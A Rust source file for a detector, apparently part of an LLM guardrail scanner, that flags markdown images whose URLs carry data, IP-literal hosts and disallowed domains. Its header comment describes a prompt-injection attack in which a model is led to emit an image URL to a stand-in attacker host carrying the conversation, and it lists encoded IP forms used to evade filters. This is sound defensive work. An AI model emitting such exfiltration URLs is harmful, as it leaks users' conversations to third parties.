//! `links`: URLs in a response that exfiltrate data or lead somewhere they should not.
//!
//! A markdown image is fetched by the user's browser as soon as the answer renders, so an
//! injected instruction that makes the model emit `![](https://attacker/?q=<conversation>)`
//! leaks data with no click. Reported: images (inline and reference-style) whose URL carries a
//! query or path payload; URLs whose host is an IP literal (including decimal, octal and hex
//! forms used to evade filters); hosts outside an allow-list or on a deny-list.

use std::net::{Ipv4Addr, Ipv6Addr};
use std::sync::LazyLock;

use regex::Regex;
use serde::Deserialize;

use crate::detector::{Detector, Finding, ScanInput, Severity, Span, excerpt, parse_config};
use crate::error::Result;
use crate::registry::{BOTH, DetectorInfo};

pub const INFO: DetectorInfo = DetectorInfo {
    id: "links",
    name: "Exfiltration links and risky URLs",
    directions: BOTH,
    summary: "Markdown images and links that carry data in their URL (zero-click exfiltration when rendered), URLs to IP literals, and hosts outside the allowed domains or on the denied ones.",
    false_positives: "Images with ordinary query strings (a CDN's ?w=600 resize parameter) are reported only when a parameter value is long or looks encoded; IP URLs in network documentation are legitimate.",
    references: &[
        "OWASP LLM05:2025 Improper Output Handling",
        "OWASP LLM02:2025 Sensitive Information Disclosure",
        "AML.T0077 LLM Response Rendering",
        "AML.T0057 LLM Data Leakage",
    ],
    eval_label: Some("markdown_exfiltration"),
    build: |v| {
        Ok(Box::new(Links {
            config: parse_config(INFO.id, v)?,
        }))
    },
};

#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Config {
    /// If non-empty, only these domains (and their subdomains) are allowed in URLs.
    pub allowed_domains: Vec<String>,
    pub denied_domains: Vec<String>,
    pub ip_literals: bool,
    /// A query or path value at least this long in an image URL counts as a payload.
    pub payload_min_len: usize,
}

impl Default for Config {
    fn default() -> Self {
        Config {
            allowed_domains: Vec::new(),
            denied_domains: Vec::new(),
            ip_literals: true,
            payload_min_len: 16,
        }
    }
}

pub struct Links {
    config: Config,
}

static IMAGE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"!\[[^\]\n]*\]\(\s*<?([^\s)>]+)|(?m)^\s{0,3}\[[^\]\n]{1,100}\]:\s*<?(\S+)|<img\b[^>]*\bsrc\s*=\s*["']?([^"'\s>]+)"#).expect("static regex")
});
static URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)\b(?:https?|ftp|wss?)://[^\s<>"'`\]\[)(]{1,4096}"#).expect("static regex")
});

pub struct ParsedUrl<'a> {
    pub host: &'a str,
    pub path: &'a str,
    pub query: &'a str,
}

pub fn parse_url(url: &str) -> Option<ParsedUrl<'_>> {
    let rest = url.split_once("://")?.1;
    let (authority, tail) = match rest.find(['/', '?', '#']) {
        Some(i) => (&rest[..i], &rest[i..]),
        None => (rest, ""),
    };
    let hostport = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    let host = if hostport.starts_with('[') {
        hostport
            .split(']')
            .next()
            .map(|h| h.trim_start_matches('['))?
    } else {
        hostport.split(':').next()?
    };
    let (path, query) = match tail.split_once('?') {
        Some((p, q)) => (p, q.split('#').next().unwrap_or("")),
        None => (tail.split('#').next().unwrap_or(""), ""),
    };
    Some(ParsedUrl { host, path, query })
}

/// Whether a host is an IP address in any of the forms browsers accept: dotted, IPv6,
/// one 32-bit integer (`2130706433`), hex (`0x7f000001`) or octal parts (`0177.0.0.1`).
pub fn is_ip_host(host: &str) -> bool {
    if host.parse::<Ipv4Addr>().is_ok() || host.parse::<Ipv6Addr>().is_ok() {
        return true;
    }
    let parts: Vec<&str> = host.split('.').collect();
    if parts.is_empty() || parts.len() > 4 {
        return false;
    }
    parts.iter().all(|p| {
        !p.is_empty()
            && (p.chars().all(|c| c.is_ascii_digit())
                || (p.starts_with("0x") || p.starts_with("0X"))
                    && p.len() > 2
                    && p[2..].chars().all(|c| c.is_ascii_hexdigit()))
    })
}

fn domain_matches(host: &str, domain: &str) -> bool {
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    let domain = domain.trim_start_matches("*.").to_ascii_lowercase();
    host == domain || host.ends_with(&format!(".{domain}"))
}

fn carries_payload(p: &ParsedUrl<'_>, min: usize) -> bool {
    let long_value = p
        .query
        .split('&')
        .filter_map(|kv| kv.split_once('=').map(|(_, v)| v).or(Some(kv)))
        .any(|v| v.len() >= min);
    let long_segment = p
        .path
        .split('/')
        .any(|s| s.len() >= min * 2 && !s.contains('.'));
    long_value || long_segment
}

impl Detector for Links {
    fn id(&self) -> &'static str {
        INFO.id
    }

    fn scan(&self, input: &ScanInput<'_>, out: &mut Vec<Finding>) -> Result<()> {
        let text = input.text;
        if !text.contains("://") {
            return Ok(());
        }
        let mut reported: Vec<Span> = Vec::new();
        for caps in IMAGE.captures_iter(text) {
            let Some(m) = caps.get(1).or_else(|| caps.get(2)).or_else(|| caps.get(3)) else {
                continue;
            };
            let Some(p) = parse_url(m.as_str()) else {
                continue;
            };
            if carries_payload(&p, self.config.payload_min_len) {
                let span = Span::new(m.start(), m.end());
                let mut f = Finding::new(
                    INFO.id,
                    "markdown_exfiltration",
                    Some(span),
                    Severity::High,
                    format!(
                        "image from {} with a {}-byte payload",
                        p.host,
                        p.query.len() + p.path.len()
                    ),
                );
                f.redact = crate::detector::Redact::Label("[REMOVED:link]".into());
                out.push(f);
                reported.push(span);
            }
        }
        for m in URL.find_iter(text) {
            let span = Span::new(m.start(), m.end());
            if reported.iter().any(|r| r.overlaps(&span)) {
                continue;
            }
            let Some(p) = parse_url(m.as_str()) else {
                continue;
            };
            let kind = if self.config.ip_literals && is_ip_host(p.host) {
                Some(("ip_url", Severity::Medium))
            } else if self
                .config
                .denied_domains
                .iter()
                .any(|d| domain_matches(p.host, d))
            {
                Some(("denied_domain", Severity::High))
            } else if !self.config.allowed_domains.is_empty()
                && !self
                    .config
                    .allowed_domains
                    .iter()
                    .any(|d| domain_matches(p.host, d))
            {
                Some(("disallowed_domain", Severity::Medium))
            } else {
                None
            };
            if let Some((kind, severity)) = kind {
                let mut f = Finding::new(INFO.id, kind, Some(span), severity, excerpt(p.host, 60));
                f.redact = crate::detector::Redact::Label("[REMOVED:link]".into());
                out.push(f);
            }
        }
        Ok(())
    }
}
